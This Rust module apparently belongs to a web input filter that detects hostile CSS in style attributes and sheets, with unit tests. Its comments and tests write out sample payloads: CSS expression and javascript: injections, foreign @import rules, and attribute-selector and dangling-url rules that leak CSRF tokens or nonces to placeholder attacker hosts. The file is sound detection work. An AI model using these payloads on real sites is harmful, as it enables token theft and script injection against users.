//! Style sheets and `style` attributes that execute or load active content: IE
//! `expression()`, `behavior:` / `-moz-binding` (HTC / XBL bindings), `javascript:` URLs,
//! `@import` of a foreign sheet. CSS escapes (`\65 xpression`) and comments
//! (`ex/**/pression`) are removed first, as the CSS tokenizer does.

use super::entity::decode_backslashes;

/// Bytes of CSS examined.
const MAX_CSS: usize = 8192;

/// Does this CSS text execute or load active content? Read as the CSS tokenizer reads it,
/// then, when it has backslashes, as text whose backslashes stand for nothing: a JavaScript
/// string that writes the style (`el.style.cssText='…'`) reads `\e` as `e`, and so does an
/// application that strips slashes, so `expr\ession(` is `expression(` there although CSS
/// reads `\e` as a hex escape.
pub fn dangerous(css: &str) -> bool {
    let css = match css.char_indices().nth(MAX_CSS) {
        Some((i, _)) => &css[..i],
        None => css,
    };
    dangerous_text(css) || (css.contains('\\') && dangerous_text(&css.replace('\\', "")))
}

/// [`dangerous`] for one reading of the escapes (the CSS tokenizer's).
fn dangerous_text(css: &str) -> bool {
    let folded = fold(css);
    let f = &folded[..];
    // IE evaluates `expression(…)` only as a property value: prose about "a regular
    // expression (regex)" folds to the same letters but has no `:` before them; and an
    // empty `expression()` evaluates nothing ("expression() was removed from IE8")
    let expression = memchr::memmem::find_iter(f, b"expression(")
        .take(16)
        .any(|p| {
            (p == 0 || matches!(f[p - 1], b':' | b'=' | b'(' | b',' | b'"' | b'\''))
                && f.get(p + 11) != Some(&b')')
        });
    expression
        || foreign_import(f)
        || ACTIVE.as_ref().map_or_else(
            || {
                ACTIVE_WORDS
                    .iter()
                    .any(|w| memchr::memmem::find(f, w).is_some())
            },
            |a| a.find(f).is_some(),
        )
}

/// The CSS as its tokenizer reads it for the keyword tests: escapes decoded, comments,
/// blanks and controls dropped, lower case.
fn fold(css: &str) -> Vec<u8> {
    let decoded = decode_backslashes(css);
    let mut folded: Vec<u8> = Vec::with_capacity(decoded.len());
    let b = decoded.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'/' && b.get(i + 1) == Some(&b'*') {
            i = match memchr::memmem::find(&b[i + 2..], b"*/") {
                Some(p) => i + 2 + p + 2,
                None => b.len(),
            };
            continue;
        }
        let c = b[i];
        // whitespace, controls and the replacement character left by `\0` are dropped
        if c > 0x20
            && c != 0x7f
            && !(c == 0xef && b.get(i + 1) == Some(&0xbf) && b.get(i + 2) == Some(&0xbd))
        {
            folded.push(c.to_ascii_lowercase());
            i += 1;
        } else if c == 0xef {
            i += 3;
        } else {
            i += 1;
        }
    }
    folded
}

/// Folded CSS that runs script or loads active content wherever it stands: script URLs, an
/// HTC behaviour (always loaded through `url(…)`; prose says "expected behavior:"), XBL
/// bindings (`-moz-binding` and the unprefixed `binding` it implemented), an HTML document
/// as a `data:` URL, Opera's `-o-link`. (`@import` is [`foreign_import`]'s.)
const ACTIVE_WORDS: [&[u8]; 13] = [
    b"javascript:",
    b"vbscript:",
    b"behavior:url(",
    b"behaviour:url(",
    b"-moz-binding",
    b"binding:url(",
    b"url(data:text/html",
    b"url(\"data:text/html",
    b"url('data:text/html",
    b"-o-link:",
    b"url(javascript",
    b"url(\"javascript",
    b"url('javascript",
];

/// Imports examined per value.
const MAX_IMPORTS: usize = 16;

/// `@import url(//evil.example/x.css)`, `@import 'https://…'`, `@import url(javascript:…)`:
/// an import of a sheet from another origin (or through a scheme) gives its author the
/// page's styles (selector exfiltration, overlays, IE's `expression()`). A relative import
/// (`@import url('../css/base.css')`, `@import "theme.css"`) loads the site's own sheet, as
/// its style sheets do. `f` is the folded CSS (no blanks, lower case); a `:` before the URL
/// ends means a scheme, `//` or `/\` another host.
fn foreign_import(f: &[u8]) -> bool {
    memchr::memmem::find_iter(f, b"@import")
        .take(MAX_IMPORTS)
        .any(|p| {
            let url = import_target(&f[p + 7..]);
            url.is_empty() || foreign_target(url)
        })
}

/// `@import "//evil.example/steal.css";`, `@import url(https://x.example/a.css) print`: an
/// `@import` rule written as CSS writes it (its target a quoted string or `url(…)`) whose
/// target is another origin or a scheme ([`foreign_import`]'s test). Reflected into a
/// `<style>` block or a theme's custom CSS, the page loads the attacker's sheet, whose
/// attribute selectors leak the CSRF token or nonce character by character. [`dangerous`]
/// reads `@import` only where a `url(` or another CSS word made the value look like CSS;
/// this reads it on its own, so it asks for the rule's syntax: prose that names the rule
/// ("use @import in Sass", "@import: deprecated") has no quoted or `url(` target after it,
/// and the site's own sheet (`@import "theme.css"`, `@import url('/css/site.css')`) is
/// relative.
pub fn imports_foreign_sheet(v: &str) -> bool {
    let v = match v.char_indices().nth(MAX_CSS) {
        Some((i, _)) => &v[..i],
        None => v,
    };
    let strict = |css: &str| {
        let f = fold(css);
        memchr::memmem::find_iter(&f, b"@import")
            .take(MAX_IMPORTS)
            .any(|p| {
                let u = &f[p + 7..];
                (matches!(u.first(), Some(b'"' | b'\'')) || u.starts_with(b"url("))
                    && foreign_target(import_target(u))
            })
    };
    strict(v) || (v.contains('\\') && strict(&v.replace('\\', "")))
}

/// Whether a (folded) import target is on another origin (`//host`, `/\host`, `\host`)
/// or names a scheme (`https:`, `javascript:`, `data:`).
fn foreign_target(url: &[u8]) -> bool {
    matches!(url, [b'/', b'/' | b'\\', ..] | [b'\\', ..]) || memchr::memchr(b':', url).is_some()
}

/// The target of the `@import` whose folded text after the keyword is `u`: the string or
/// `url(…)` argument, up to its closing quote, parenthesis or `;` (at most 256 bytes).
fn import_target(u: &[u8]) -> &[u8] {
    let mut u = u;
    if let Some(r) = u.strip_prefix(b"url(") {
        u = r;
    }
    if let Some(r) = u.strip_prefix(b"\"").or_else(|| u.strip_prefix(b"'")) {
        u = r;
    }
    let end = u
        .iter()
        .take(256)
        .position(|&c| matches!(c, b'"' | b'\'' | b')' | b';'))
        .unwrap_or(u.len().min(256));
    &u[..end]
}

/// Longest lone `@import` statement [`relative_import`] reads.
const MAX_IMPORT_STATEMENT: usize = 256;

/// Whether `v` is one `@import` statement and nothing else, of the site's own sheet
/// (`@import url('../css/base.css');`, `@import "theme.css" print;`): a style sheet's first
/// line pasted into a CMS or a theme setting. With no markup, block, comment or escape and
/// no import of another origin ([`dangerous`]), it loads what the site already serves.
pub fn relative_import(v: &str) -> bool {
    let t = v.trim().as_bytes();
    t.len() <= MAX_IMPORT_STATEMENT
        && t.len() > 7
        && t[..7].eq_ignore_ascii_case(b"@import")
        && !t[1..].contains(&b'@')
        && !t
            .iter()
            .any(|&c| matches!(c, b'<' | b'>' | b'{' | b'}' | b'\\' | b'*' | b'\n' | b'\r'))
        && !dangerous(v)
}

/// [`ACTIVE_WORDS`] in one vectorized multi-word searcher, built once (a substring searcher
/// built per word and call cost more than the search); `None` where the CPU has no vector
/// unit for it, and then the words are searched one by one.
static ACTIVE: std::sync::LazyLock<Option<aho_corasick::packed::Searcher>> =
    std::sync::LazyLock::new(|| crate::search::packed_words(ACTIVE_WORDS));

/// Bytes after an attribute selector searched for its block's `url(`.
const MAX_RULE: usize = 512;

/// `}input[name=csrf][value^=a]{background:url(//evil.example/a)}`: a rule that fetches an
/// outside URL only when an input's value starts with, ends with or holds a given text. One
/// such rule per character leaks a token (CSRF, nonce) to that host without any script. A
/// page's own style sheets select by type, class or link target, and load their images
/// from relative URLs; the value's text is what only an attacker asks about.
pub fn selector_exfiltration(v: &str) -> bool {
    let b = v.as_bytes();
    for p in memchr::memchr_iter(b'[', b).take(64) {
        let r = b[p + 1..].trim_ascii_start();
        let name_len = r
            .iter()
            .take(8)
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        let name = &r[..name_len];
        if !(name.eq_ignore_ascii_case(b"value") || name.eq_ignore_ascii_case(b"nonce")) {
            continue;
        }
        let r = r[name_len..].trim_ascii_start();
        if !(r.len() > 1 && matches!(r[0], b'^' | b'$' | b'*') && r[1] == b'=') {
            continue;
        }
        let r = &r[..r.len().min(MAX_RULE)];
        // the selector ends at `{`; the block at `}`
        let Some(open) = memchr::memchr(b'{', r) else {
            continue;
        };
        let block = &r[open + 1..];
        let block = &block[..memchr::memchr(b'}', block).unwrap_or(block.len())];
        if external_url(block) {
            return true;
        }
    }
    false
}

/// Whether a CSS declaration block loads a `url(` on another host (`//host`, `http(s):`).
fn external_url(block: &[u8]) -> bool {
    memchr::memchr_iter(b'(', block).any(|p| {
        p >= 3
            && block[p - 3..p].eq_ignore_ascii_case(b"url")
            && remote_target(&block[p + 1..]).is_some()
    })
}

/// After a `url(`: the quote that opens its argument (0 when unquoted) and the offset of the
/// host's `//` when the URL is on another host (`//host`, `http(s)://host`).
fn remote_target(u: &[u8]) -> Option<(u8, usize)> {
    let lead = u.len() - u.trim_ascii_start().len();
    let (q, at) = match u.get(lead) {
        Some(&c @ (b'"' | b'\'')) => (c, lead + 1),
        _ => (0, lead),
    };
    let t = &u[at..];
    let host = if t.starts_with(b"//") {
        0
    } else if t.len() > 7 && t[..7].eq_ignore_ascii_case(b"http://") {
        5
    } else if t.len() > 8 && t[..8].eq_ignore_ascii_case(b"https://") {
        6
    } else {
        return None;
    };
    Some((q, at + host))
}

/// `url(`s examined per value by [`dangling_remote_url`].
const MAX_URLS: usize = 16;

/// `";}body{background:url('//evil.example/leak?`: the value closes the declaration or rule
/// it lands in, opens a rule of its own (a selector and `{`), and leaves a `url(` to another
/// host unterminated. The style sheet's tokenizer then reads the page text that follows as
/// the rest of that URL, up to the next matching quote or parenthesis, and the browser
/// requests it from the attacker's host: the CSRF token or nonce in that text leaks with no
/// script. A style the site keeps (`.hero{background:url(https://cdn.example/a.png)}`,
/// `background:url(/img/a.png)`) closes its URL; a URL without a rule the value opened is a
/// property value, not a new rule.
pub fn dangling_remote_url(v: &str) -> bool {
    let b = v.as_bytes();
    let b = &b[..b.len().min(MAX_CSS)];
    for p in memchr::memchr_iter(b'(', b)
        .filter(|&p| p >= 3 && b[p - 3..p].eq_ignore_ascii_case(b"url"))
        .take(MAX_URLS)
    {
        let Some((q, host)) = remote_target(&b[p + 1..]) else {
            continue;
        };
        let after = &b[p + 1 + host + 2..];
        let closer = if q == 0 { b')' } else { q };
        if after.contains(&closer) {
            continue;
        }
        // the block this `url(` stands in was opened by the value: a `{` after a selector,
        // with no `}` between it and the URL
        let before = &b[..p - 3];
        let Some(open) = memchr::memrchr2(b'{', b'}', before) else {
            return false;
        };
        if before[open] == b'}' {
            continue;
        }
        let sel = before[..open].trim_ascii_end();
        if sel.last().is_some_and(|&c| {
            c.is_ascii_alphanumeric() || matches!(c, b']' | b')' | b'*' | b'-' | b'_')
        }) {
            return true;
        }
        // the first unterminated `url(` swallows the rest
        return false;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn css() {
        assert!(dangerous("width: expression(alert(1))"));
        assert!(!dangerous(
            "expression() was removed from IE8 standards mode"
        ));
        assert!(!dangerous("width: expression( )"));
        assert!(dangerous("x:ex/**/pression(alert(1))"));
        assert!(dangerous("x:\\65 xpression(alert(1))"));
        assert!(dangerous("background:url(javascript:alert(1))"));
        assert!(dangerous("behavior: url(xss.htc)"));
        assert!(dangerous("binding: url(http://x.example/b.xml#x)"));
        assert!(!dangerous("font-family: 'Binding Sans'; color: red"));
        assert!(!dangerous(
            "one would expect the following behavior: it works"
        ));
        assert!(!dangerous("color: red; font-weight: bold"));
        assert!(!dangerous("background: url(https://example.com/a.png)"));
        assert!(dangerous("w\\idth:expr\\ession(alert(1))"));
    }

    #[test]
    fn imports_judged_by_origin() {
        for v in [
            "@import url(//evil.example/x.css);",
            "@import 'https://evil.example/x.css';",
            "@import url(\"http://x.example/a.css\")",
            "@import url(javascript:alert(1))",
            "@import url(data:text/css,x)",
            "@import",
        ] {
            assert!(dangerous(v), "{v}");
        }
        for v in [
            "@import url('../css/base.css');",
            "@import \"theme.css\";",
            "@import url(/static/print.css) print;",
            "@import 'components/button';",
        ] {
            assert!(!dangerous(v), "{v}");
            assert!(relative_import(v), "{v}");
        }
        for v in [
            "@import url(//evil.example/x.css);",
            "@import url(a.css); body{color:red}",
            "<style>@import 'a.css';</style>",
            "@import url(a.css);@import url(//x.example/b.css)",
            "@import",
        ] {
            assert!(!relative_import(v), "{v}");
        }
    }

    #[test]
    fn foreign_sheets_imported_by_the_rule_syntax() {
        for v in [
            "@import \"//evil.tld/steal.css\";",
            "@import url(//evil.tld/x.css)",
            "@import url( 'https://x.example/a.css' ) print;",
            "@import/**/\"//x.example/a.css\"",
            "@imp\\ort '//x.example/a.css'",
        ] {
            assert!(imports_foreign_sheet(v), "{v}");
        }
        for v in [
            "@import url('/css/site.css')",
            "@import \"theme.css\"",
            "use @import in Sass",
            "@import: see https://sass-lang.com/d/import",
            "@import",
            "@import url()",
        ] {
            assert!(!imports_foreign_sheet(v), "{v}");
        }
    }

    #[test]
    fn selectors_that_leak_input_values() {
        for v in [
            "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
            "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
            "}input[value$='z'] { background-image: url('http://x.example/z') }",
            "script[nonce*=ab]{display:block;background:url(//x.example/ab)}",
        ] {
            assert!(selector_exfiltration(v), "{v}");
        }
        for v in [
            "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
            "input[type=checkbox]{background:url(//cdn.example.com/x.png)}",
            "input[value^=a]{border:1px solid red}",
            "input[value^=a]{background:url(/img/a.png)}",
            "input[value=\"\"]{background:url(//cdn.example.com/empty.png)}",
            "array[value^2] = {url(http://x)}",
        ] {
            assert!(!selector_exfiltration(v), "{v}");
        }
    }
}
